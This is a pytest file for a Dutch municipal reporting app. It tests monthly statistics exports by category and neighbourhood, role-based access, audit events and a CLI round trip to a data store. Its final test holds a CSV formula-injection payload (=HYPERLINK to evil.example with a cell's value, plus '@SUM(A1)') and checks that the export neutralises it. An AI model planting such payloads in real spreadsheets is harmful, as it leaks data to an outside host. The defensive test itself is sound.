"""The meldpunt's figures: meldingen per category, buurt and month, audited, for those who may export them;
and the round trip web app -> csv -> store (``ivp meldpunt-cijfers --laden``)."""

from __future__ import annotations

import datetime as dt
import zoneinfo
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from django.core.exceptions import PermissionDenied

from ivp.cli import main
from ivp.sources.base import ingest
from ivp.store import Store
from ivp.themes import load_taxonomy
from ivp.web.audit.models import AuditEvent
from ivp.web.meldingen import cijfers
from ivp.web.meldingen.migrations import __name__ as migrations_package
from ivp.web.meldingen.models import Category, Melding
from ivp.workspace import Workspace
from tests.web.factories import make_melding

pytestmark = pytest.mark.django_db

TZ = zoneinfo.ZoneInfo("Europe/Amsterdam")
UTC = dt.UTC


def _at(year: int, month: int, day: int, hour: int = 12, minute: int = 0, tz: dt.tzinfo = TZ) -> dt.datetime:
    return dt.datetime(year, month, day, hour, minute, tzinfo=tz)


def _seed(actors: dict[str, Any]) -> None:
    """Meldingen in three months of 2024 and one in the current month; the actors' melding is moved to 2024."""
    jeugd = Category.objects.get(slug="overlast-jeugd")
    Melding.objects.filter(pk=actors["melding"].pk).update(aangemaakt=_at(2024, 1, 10))
    make_melding(aangemaakt=_at(2024, 1, 20), buurt_code="BU05050101")
    # 23:30 UTC on 31 January is 00:30 on 1 February in Amsterdam.
    make_melding(aangemaakt=_at(2024, 1, 31, 23, 30, tz=UTC), categorie=jeugd, buurt_code="BU05050300")
    make_melding(aangemaakt=_at(2024, 3, 5), categorie=jeugd, buurt_code="", buurt_naam="")
    # Imported from Fixi: no buurt code, an area name the adapter resolves.
    make_melding(
        aangemaakt=_at(2024, 3, 6), categorie=jeugd, buurt_code="", buurt_naam="Groenmarkt en omgeving"
    )
    make_melding(aangemaakt=dt.datetime.now(UTC))  # the current month: left out


def test_counts_per_category_buurt_and_month(actors: dict[str, Any]) -> None:
    _seed(actors)
    result = cijfers.meldpunt_cijfers("cli:beheer")
    assert [(r.categorie_code, r.gebied, r.jaar, r.maand, r.aantal) for r in result.rows] == [
        ("overlast-jeugd", "", 2024, 3, 1),
        ("overlast-jeugd", "BU05050300", 2024, 2, 1),
        ("overlast-jeugd", "Groenmarkt en omgeving", 2024, 3, 1),
        ("straatintimidatie", "BU05050101", 2024, 1, 2),
    ]
    assert result.rows[0].categorie == "Overlast jeugd"
    assert result.total == 5
    assert result.until == cijfers.start_of_month()
    event = AuditEvent.objects.get(object_type="meldpunt_cijfers")
    assert (event.actor, event.actor_name, event.action) == (None, "cli:beheer", "export")
    assert event.after == {"rijen": 4, "meldingen": 5, "tot": result.until.isoformat(), "per_buurt": True}
    text = cijfers.to_csv(result)
    assert text.splitlines()[0] == "categorie;categorie_code;gebied;jaar;maand;aantal"
    assert "Overlast jeugd;overlast-jeugd;BU05050300;2024;2;1" in text.splitlines()
    assert "Voorstraat" not in text  # the factory's text and street never leave the app
    earlier = cijfers.meldpunt_cijfers("cli:beheer", until=dt.date(2024, 2, 1))
    assert earlier.total == 2


@pytest.mark.parametrize("who", ["analist", "beheerder"])
def test_staff_who_may_export_get_sums_over_all_buurten(actors: dict[str, Any], who: str) -> None:
    """ADR 0009: roles with statistics get no exact counts per buurt, only what they may count anyway."""
    _seed(actors)
    result = cijfers.meldpunt_cijfers(actors[who])
    assert [(r.categorie_code, r.gebied, r.jaar, r.maand, r.aantal) for r in result.rows] == [
        ("overlast-jeugd", "", 2024, 2, 1),
        ("overlast-jeugd", "", 2024, 3, 2),
        ("straatintimidatie", "", 2024, 1, 2),
    ]
    event = AuditEvent.objects.get(object_type="meldpunt_cijfers")
    assert (event.actor, event.role) == (actors[who], who)
    assert event.after is not None
    assert event.after["per_buurt"] is False


@pytest.mark.parametrize("who", ["outsider", "owner", "member", "nobody"])
def test_refused_for_who_may_not_export(actors: dict[str, Any], who: str) -> None:
    _seed(actors)
    with pytest.raises(PermissionDenied):
        cijfers.meldpunt_cijfers(actors[who])
    assert not AuditEvent.objects.filter(object_type="meldpunt_cijfers").exists()


def test_until_must_be_the_first_of_a_month(actors: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match="first day of a month"):
        cijfers.meldpunt_cijfers(actors["analist"], until=dt.date(2024, 2, 3))


def test_default_categories_all_have_themes() -> None:
    """Every category the web app ships (migration 0002) maps onto a theme of the default taxonomy."""
    import importlib

    defaults = importlib.import_module(f"{migrations_package}.0002_default_categories").DEFAULTS
    taxonomy = load_taxonomy()
    slugs = [s for s, _naam in defaults]
    assert taxonomy.unmapped("meldpunt", slugs) == []
    assert taxonomy.themes_for("meldpunt", "onbegrepen-gedrag") == ["overlast", "kwetsbare_personen"]
    assert taxonomy.themes_for("meldpunt", "ondermijning") == ["ondermijning"]


def test_cli_round_trip_web_csv_store(
    actors: dict[str, Any], tmp_path: Path, shared_data: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _seed(actors)
    workspace = Workspace.create(tmp_path / "ws", "GM0505", "Dordrecht")
    monkeypatch.setenv("IVP_WORKSPACE", str(workspace.root))  # restored afterwards; setup_web sets it too
    with Store(workspace.store_path) as store:  # the buurten, so area names resolve
        ingest(store, "geo", str(shared_data / "geo" / "dordrecht_buurten_2024.geojson"), gemeente="GM0505")
    target = tmp_path / "uit" / "meldpunt_cijfers.csv"
    result = CliRunner().invoke(
        main, ["meldpunt-cijfers", "--naar", str(target), "--laden", "-w", str(workspace.root)]
    )
    assert result.exit_code == 0, result.output
    assert "4 rijen, 5 meldingen" in result.output
    assert "Geladen in de werkmap: meldpunt_cijfers.csv" in result.output
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")
    assert list(target.parent.iterdir()) == [target]  # written atomically: no temporary file left
    end = dt.datetime(*cijfers.start_of_month().timetuple()[:3], tzinfo=TZ)
    web = Counter(Melding.objects.filter(aangemaakt__lt=end).values_list("categorie__slug", flat=True))
    with Store(workspace.store_path, read_only=True) as store:
        totals = store.query(
            "SELECT category, sum(value) AS v FROM observations "
            "WHERE source_id = 'meldpunt' AND region = 'GM0505' GROUP BY category"
        )
        assert dict(zip(totals["category"], totals["v"], strict=True)) == web
        months = store.query(
            "SELECT DISTINCT year, month FROM observations WHERE source_id = 'meldpunt' ORDER BY year, month"
        )
        assert months.values.tolist() == [[2024, 1], [2024, 2], [2024, 3]]
        buurten = store.query(
            "SELECT region, category, sum(value) AS v FROM observations "
            "WHERE source_id = 'meldpunt' AND region <> 'GM0505' AND value > 0 "
            "GROUP BY region, category ORDER BY region, category"
        )
        assert buurten.values.tolist() == [
            ["BU05050101", "overlast-jeugd", 1.0],  # the imported one, by its name
            ["BU05050101", "straatintimidatie", 2.0],
            ["BU05050300", "overlast-jeugd", 1.0],
        ]
        source = store.sources().set_index("source_id").loc["meldpunt"]
        assert source["publisher"] == "Meldpunt van de gemeente"
        assert source["licence"] == "niet openbaar (meldingen van inwoners)"
    event = AuditEvent.objects.get(object_type="meldpunt_cijfers")
    assert event.actor is None
    assert event.actor_name.startswith("cli")
    again = CliRunner().invoke(
        main, ["meldpunt-cijfers", "--naar", str(target), "--laden", "-w", str(workspace.root)]
    )
    assert again.exit_code == 0, again.output
    assert "(ongewijzigd)" in again.output


def test_cli_writes_nothing_without_meldingen(db: Any, tmp_path: Path) -> None:
    Melding.objects.all().delete()
    target = tmp_path / "leeg.csv"
    result = CliRunner().invoke(main, ["meldpunt-cijfers", "--naar", str(target)])
    assert result.exit_code != 0
    assert "geen meldingen" in result.output
    assert not target.exists()


def test_a_category_name_that_is_a_formula_is_written_as_text(db: Any) -> None:
    """Category names come from the admin or from imported exports: one that a spreadsheet would run
    ('=HYPERLINK(...)') gets a leading quote in the csv, as in the staff export (docs/security.md)."""
    evil = Category.objects.create(slug="evil", naam='=HYPERLINK("http://evil.example/?x="&A1,"klik")')
    make_melding(aangemaakt=_at(2024, 4, 2), categorie=evil, buurt_code="", buurt_naam="@SUM(A1)")
    text = cijfers.to_csv(cijfers.meldpunt_cijfers("cli:beheer"))
    row = next(line for line in text.splitlines() if ";evil;" in line)
    assert row.startswith("\"'=HYPERLINK(")
    assert ";'@SUM(A1);" in row
